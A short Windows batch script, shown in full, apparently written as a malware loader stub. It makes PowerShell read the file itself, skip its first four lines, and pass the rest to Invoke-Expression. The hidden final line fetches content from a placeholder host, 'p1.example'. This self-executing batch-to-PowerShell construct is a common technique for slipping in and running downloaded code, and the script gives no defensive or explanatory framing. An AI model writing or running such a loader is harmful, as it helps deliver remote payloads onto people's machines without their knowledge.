@echo off
setlocal
powershell -c "gc '%~f0' | select -skip 4 | out-string | iex"
exit /b
iwr http://p1.example/e
